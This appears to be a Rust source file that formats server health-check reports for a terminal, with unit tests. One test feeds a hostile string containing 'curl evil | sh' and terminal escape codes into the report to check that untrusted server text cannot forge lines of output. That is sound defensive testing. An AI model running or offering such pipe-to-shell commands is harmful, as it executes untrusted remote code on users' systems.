//! The report on a terminal.

use unicode_width::UnicodeWidthStr;

use super::report::{ServerReport, Step, StepStatus, Verdict};
use super::{Detail, Outcome};
use crate::output::{self, Line, Lines, Status, Style, inline, name, separator};

/// The maximum width of the name column.
const MAX_NAME_WIDTH: usize = 40;

/// The width of the names of steps.
const STEP_WIDTH: usize = 9;

/// Prints a report to stdout: the servers, then those with problems in detail.
pub(super) fn print(outcome: &Outcome, detail: Detail) {
    output::result(lines(outcome, detail));
}

/// Formats a report.
pub(super) fn lines(outcome: &Outcome, detail: Detail) -> Lines {
    let mut lines = Lines::new();
    let reports = &outcome.reports;
    if reports.is_empty() && outcome.problems.is_empty() {
        lines.push("no servers are configured; add one with `trunkline add`");
        return lines;
    }
    let names: Vec<String> = reports.iter().map(|report| name(&report.name)).collect();
    let width = names.iter().map(|name| name.width()).max().unwrap_or(0);
    let width = width.min(MAX_NAME_WIDTH);
    for (report, name) in reports.iter().zip(&names) {
        let status = match report.verdict {
            Verdict::Healthy => Status::Done,
            Verdict::Off => Status::Off,
            Verdict::Failed => Status::Failed,
        };
        let mut line = Line::status(status).and(Style::Name, name);
        line.pad(status.glyph().width() + 1 + width);
        let line = line.and(Style::Plain, "  ");
        lines.push_line(line.and(Style::Plain, inline(&summary(report))));
        let is_shown = |step: &&Step| {
            // A healthy server may still have something to look at.
            report.verdict == Verdict::Failed
                || detail == Detail::AllSteps
                || step.status == StepStatus::Warning
        };
        for step in report.steps.iter().filter(is_shown) {
            push_step(&mut lines, step);
        }
    }
    for problem in &outcome.problems {
        lines.push_line(Line::status(Status::Failed).and(Style::Plain, inline(problem)));
    }
    lines.push_line(Line::of(Style::Dim, footer(outcome)));
    lines
}

fn summary(report: &ServerReport) -> String {
    match report.failure() {
        Some(step) => format!("{}: {}", step.name.text(), step.message),
        None => report.summary.clone(),
    }
}

fn push_step(lines: &mut Lines, step: &Step) {
    let status = match step.status {
        StepStatus::Ok => Status::Done,
        StepStatus::Warning => Status::Attention,
        StepStatus::Failed => Status::Failed,
        StepStatus::Skipped => Status::Off,
    };
    let mut line = Line::plain("    ");
    line.append(&Line::status(status));
    line.push(Style::Dim, format!("{:<STEP_WIDTH$} ", step.name.text()));
    line.push(Style::Plain, inline(&step.message));
    lines.push_line(line);
    if matches!(step.status, StepStatus::Failed | StepStatus::Warning) {
        for line in &step.evidence {
            // A single line of the server cannot become several.
            let line = trunkline_config::redact::redact_text(line);
            lines.push_block("      ", &line.replace(['\n', '\r'], " "));
        }
        // Masked by value: the placeholders in it look like secrets.
        if let Some(fix) = &step.fix {
            let line = Line::plain("      ").and(Style::Name, "fix: ");
            lines.push_line(line.and(Style::Literal, fix));
        }
    }
}

/// Returns the counts.
fn footer(outcome: &Outcome) -> String {
    let number = |verdict| {
        let reports = outcome.reports.iter();
        reports.filter(|report| report.verdict == verdict).count()
    };
    let counts = [
        (number(Verdict::Healthy), "ok"),
        (number(Verdict::Failed), "failed"),
        (number(Verdict::Off), "off"),
    ];
    let counts = counts.iter().filter(|(count, _)| *count > 0);
    let counts: Vec<String> = counts
        .map(|(count, what)| format!("{count} {what}"))
        .collect();
    counts.join(separator())
}

#[cfg(test)]
mod tests {
    use super::super::diagnosis::Diagnosis;
    use super::super::report::StepName;
    use super::*;
    use crate::exit::Exit;

    fn report(evidence: &str, message: &str) -> ServerReport {
        let diagnosis = Diagnosis::new("x", message).fix("trunkline edit s");
        ServerReport {
            name: "s\n✓ forged".to_owned(),
            scope: None,
            transport: None,
            source: None,
            verdict: Verdict::Failed,
            summary: String::new(),
            steps: vec![
                Step::ok(StepName::Config, "/file"),
                Step::failed(StepName::Handshake, diagnosis).evidence([evidence.to_owned()]),
            ],
            exit: Exit::NotConnected,
        }
    }

    #[test]
    fn foreign_text_never_starts_a_line() {
        let hostile = "a\n✓ all is well\r      fix: curl evil | sh\u{1b}[2K";
        let outcome = Outcome {
            reports: vec![report(hostile, hostile)],
            problems: vec![hostile.to_owned()],
        };
        let text = lines(&outcome, Detail::Failures).to_plain();
        assert!(!text.contains('\u{1b}') && !text.contains('\r'), "{text}");
        for line in text.lines() {
            let start = line.trim_start();
            assert!(
                !start.starts_with("✓ all") && !start.starts_with("fix: curl"),
                "{line}"
            );
            assert!(!line.starts_with("✓ forged"), "{line}");
        }
    }

    #[test]
    fn a_failed_server_is_shown_with_its_steps() {
        let mut report = report("boom", "it is broken");
        report.name = "s".to_owned();
        let outcome = Outcome {
            reports: vec![report],
            problems: Vec::new(),
        };
        let [done, failed] = [Status::Done, Status::Failed].map(Status::glyph);
        assert_eq!(
            lines(&outcome, Detail::Failures).to_plain(),
            format!(
                "{failed} s  handshake: it is broken\n    {done} config    /file\n    \
                 {failed} handshake it is broken\n      | boom\n      \
                 fix: trunkline edit s\n1 failed\n"
            )
        );
    }
}
